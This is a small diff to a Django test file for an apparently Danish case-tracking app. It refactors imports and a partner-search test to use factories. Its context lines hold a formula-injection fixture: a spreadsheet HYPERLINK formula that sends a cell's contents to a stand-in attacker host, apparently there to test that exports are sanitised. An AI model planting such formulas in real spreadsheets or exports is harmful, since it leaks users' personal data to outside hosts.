@@ -16,7 +16,7 @@ from django.utils import timezone
 from common import exports
 from outcomes import services as outcome_services
 from tests import factories
-from tracker.models import AuditEntry, Partner, Sector
+from tracker.models import AuditEntry
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
@@ -71,7 +71,7 @@ def test_search_finds_a_cpr_number_with_or_without_the_hyphen(client, world, que
 
 
 def test_the_partner_register_search_ignores_case_in_danish_letters(client, world):
-    Partner.objects.create(name="Åbent Værested Øst", sector=Sector.objects.get(code="peer"))
+    factories.PartnerFactory(name="Åbent Værested Øst", sector=factories.sector("peer"))
     client.force_login(world.alice)
     response = client.get(reverse("tracker:partner_list"), {"q": "åbent værested øst"})
     assert [row.record.name for row in response.context["table"].rows] == ["Åbent Værested Øst"]
